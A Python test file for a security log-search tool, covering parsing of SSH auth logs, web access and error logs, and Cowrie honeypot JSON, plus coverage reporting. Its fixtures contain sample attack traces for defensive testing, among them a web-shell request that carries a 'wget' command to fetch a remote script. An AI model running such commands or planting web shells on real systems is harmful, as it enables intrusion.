"""search_logs reads matched lines in their log format: values come from fields, never from any match."""

from __future__ import annotations

import os
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

from tools.base import ToolContext, ToolResult
from tools.inventory import HostProfile
from tools.search_logs import TOOL

AUTH = [
    "Nov 20 03:14:07 web01 sshd[100]: Failed password for root from 203.0.113.5 port 50000 ssh2",
    "Nov 20 03:14:09 web01 sshd[100]: message repeated 4 times: [ Failed password for root from 203.0.113.5"
    " port 50000 ssh2]",
    "Nov 20 03:15:00 web01 sshd[101]: Failed password for invalid user  admin from scan.example.net"
    " port 2 ssh2",
    "Nov 20 03:16:00 web01 sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ;"
    " COMMAND=/bin/bash",
    "Nov 20 03:17:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
]
ACCESS = [
    '198.51.100.9 - - [20/Nov/2026:10:00:00 +0000] "GET /proxy?u=http://192.0.2.200/ HTTP/1.1" 200 512'
    ' "http://198.51.100.80/" "Mozilla/5.0"',
    'crawler.example.org - - [20/Nov/2026:10:00:01 +0000] "GET /index.html HTTP/1.1" 200 100 "-" "Googlebot"',
    '203.0.113.66 - - [20/Nov/2026:10:00:02 +0000] "GET /uploads/thumb.php?c=wget%20http%3A%2F%2F203.0.113.9'
    '%2Fk.sh HTTP/1.1" 200 20 "-" "curl/8.0"',
]


def _write(path: Path, lines: list[str], mtime: datetime) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    os.utime(path, (mtime.timestamp(), mtime.timestamp()))
    return path


def _search(ctx: ToolContext, **raw: object) -> ToolResult:
    return TOOL.run(TOOL.parse_args(raw), ctx)


def test_auth_lines_give_event_fields_and_repeat_counts(local_ctx: ToolContext, tmp_path: Path) -> None:
    log = _write(tmp_path / "auth.log", AUTH, datetime(2026, 11, 21, tzinfo=UTC))
    ctx = replace(local_ctx, profile=HostProfile(log_paths={"auth": (str(log),)}))
    result = _search(ctx, log="auth", pattern="Failed|sudo:", include_rotated=False)
    rows = result.rows
    assert [r["event"] for r in rows] == ["failed", "failed", "failed", "sudo_denied", "sudo_command"]
    assert rows[1]["repeat"] == 4 and "repeat" not in rows[0]
    assert rows[2]["user"] == " admin" and rows[2]["src"] == "scan.example.net"
    assert rows[3]["reason"] == "user NOT in sudoers" and rows[4]["command"] == "/usr/bin/id"
    assert all(r["format"] == "auth" for r in rows)
    # The year comes from the file's mtime, and says so.
    assert rows[0]["timestamp"] == "2026-11-20T03:14:07+00:00" and rows[0]["year_inferred"] is True


def test_access_client_is_the_first_field_not_any_address(local_ctx: ToolContext, tmp_path: Path) -> None:
    log = _write(tmp_path / "access.log", ACCESS, datetime(2026, 11, 21, tzinfo=UTC))
    ctx = replace(local_ctx, profile=HostProfile(log_paths={"web_access": (str(log),)}))
    rows = _search(ctx, log="web_access", pattern="GET", include_rotated=False).rows
    assert [r["client"] for r in rows] == ["198.51.100.9", "crawler.example.org", "203.0.113.66"]
    assert rows[0]["referer"] == "http://198.51.100.80/"
    assert (
        rows[2]["command"] == "wget http://203.0.113.9/k.sh" and rows[2]["url_path"] == "/uploads/thumb.php"
    )
    assert rows[2]["status"] == 200


def test_paths_detect_the_format_and_none_turns_it_off(local_ctx: ToolContext, tmp_path: Path) -> None:
    log = _write(tmp_path / "site.log", ACCESS, datetime(2026, 11, 21, tzinfo=UTC))
    detected = _search(local_ctx, paths=[str(log)], pattern="GET", include_rotated=False).rows
    assert detected[0]["format"] == "access" and detected[0]["client"] == "198.51.100.9"
    raw = _search(
        local_ctx, paths=[str(log)], pattern="(?P<client>GET)", format="none", include_rotated=False
    )
    assert "format" not in raw.rows[0] and raw.rows[0]["client"] == "GET"


def test_jsonl_time_field_decides_the_window(local_ctx: ToolContext, tmp_path: Path) -> None:
    lines = [
        '{"eventid":"cowrie.login.failed","src_ip":"203.0.113.7","username":"root","when":"2026-11-01T00:00:00Z"}',
        '{"eventid":"cowrie.login.failed","src_ip":"203.0.113.8","username":"admin","when":"2026-11-20T00:00:00Z"}',
    ]
    log = _write(tmp_path / "cowrie.json", lines, datetime(2026, 11, 21, tzinfo=UTC))
    result = _search(
        local_ctx,
        paths=[str(log)],
        pattern="login.failed",
        format="jsonl",
        time_field="when",
        since="2026-11-10T00:00:00Z",
        include_rotated=False,
    )
    assert [r["src_ip"] for r in result.rows] == ["203.0.113.8"]
    assert result.coverage is not None
    assert result.coverage.outside_window == 1 and result.coverage.untimed == 0


def test_a_log_in_another_format_is_not_examined(local_ctx: ToolContext, tmp_path: Path) -> None:
    """A JSON honeypot log searched as an auth log finds nothing: that silence is no evidence."""
    lines = ['{"eventid":"cowrie.login.failed","src_ip":"203.0.113.7","username":"root"}'] * 3
    log = _write(tmp_path / "auth.log", lines, datetime(2026, 11, 21, tzinfo=UTC))
    ctx = replace(local_ctx, profile=HostProfile(log_paths={"auth": (str(log),)}))
    result = _search(ctx, log="auth", pattern="Failed ", include_rotated=False)
    assert result.rows == [] and result.coverage is not None
    assert result.coverage.status == "not_examined"
    assert any("is not in the auth format" in r for r in result.coverage.reasons)
    # The same file read in its own format is examined.
    ok = _search(ctx, log="auth", pattern="login.failed", format="jsonl", include_rotated=False)
    assert ok.coverage is not None and ok.coverage.status == "examined" and len(ok.rows) == 3


def test_an_auth_log_with_some_plain_syslog_lines_is_still_examined(
    local_ctx: ToolContext, tmp_path: Path
) -> None:
    lines = ["Nov 20 03:00:01 web01 CRON[9]: (root) CMD (run-parts /etc/cron.hourly)", *AUTH]
    log = _write(tmp_path / "auth.log", lines, datetime(2026, 11, 21, tzinfo=UTC))
    ctx = replace(local_ctx, profile=HostProfile(log_paths={"auth": (str(log),)}))
    result = _search(ctx, log="auth", pattern="Failed ", include_rotated=False)
    assert result.coverage is not None and result.coverage.status == "examined"


def test_one_found_alternative_of_a_log_kind_is_enough(local_ctx: ToolContext, tmp_path: Path) -> None:
    """The profile names nginx's and Apache's access logs: the host having one of them is fully examined."""
    apache = _write(tmp_path / "apache-access.log", ACCESS, datetime(2026, 11, 21, tzinfo=UTC))
    nginx = tmp_path / "nginx-access.log"
    ctx = replace(local_ctx, profile=HostProfile(log_paths={"web_access": (str(nginx), str(apache))}))
    result = _search(ctx, log="web_access", pattern="GET", include_rotated=False)
    assert result.coverage is not None and result.coverage.status == "examined", result.coverage.reasons
    assert [s.found for s in result.coverage.sources] == [False, True]
    # Asked for by name, a missing file is a gap.
    named = _search(local_ctx, paths=[str(nginx), str(apache)], pattern="GET", include_rotated=False)
    assert named.coverage is not None and named.coverage.status == "partial"


def test_error_log_and_json_probes_give_the_span(local_ctx: ToolContext, tmp_path: Path) -> None:
    errors = [
        "[Wed Nov 18 10:05:40.123456 2026] [php:warn] [pid 12:tid 3] [client 203.0.113.5:5123] PHP Warning",
        "[Fri Nov 20 22:03:24.000001 2026] [core:error] [pid 12:tid 34] [client 203.0.113.5:5124] AH00126: y",
    ]
    log = _write(tmp_path / "error.log", errors, datetime(2026, 11, 21, tzinfo=UTC))
    ctx = replace(local_ctx, profile=HostProfile(log_paths={"web_error": (str(log),)}))
    cov = _search(ctx, log="web_error", pattern="AH00126", include_rotated=False).coverage
    assert cov is not None and (cov.first_ts, cov.last_ts) == (
        "2026-11-18T10:05:40.123456+00:00",
        "2026-11-20T22:03:24.000001+00:00",
    )
    lines = [
        '{"eventid":"a","timestamp":"2026-11-01T00:00:00Z"}',
        '{"eventid":"b","timestamp":"2026-11-09T00:00:00Z"}',
    ]
    jl = _write(tmp_path / "cowrie.json", lines, datetime(2026, 11, 21, tzinfo=UTC))
    cov = _search(
        local_ctx, paths=[str(jl)], pattern="eventid", format="jsonl", include_rotated=False
    ).coverage
    assert cov is not None and (cov.first_ts, cov.last_ts) == (
        "2026-11-01T00:00:00+00:00",
        "2026-11-09T00:00:00+00:00",
    )


def test_a_log_whose_matches_parse_is_in_its_format_whatever_its_first_line(
    local_ctx: ToolContext, tmp_path: Path
) -> None:
    """A collected log that opens with a comment is still an auth log when its matched lines parse as one."""
    log = _write(
        tmp_path / "auth.log", ["# exported from web01", *AUTH, "# end"], datetime(2026, 11, 21, tzinfo=UTC)
    )
    ctx = replace(local_ctx, profile=HostProfile(log_paths={"auth": (str(log),)}))
    result = _search(ctx, log="auth", pattern="Failed ", include_rotated=False)
    assert result.coverage is not None and result.coverage.status == "examined", result.coverage.reasons
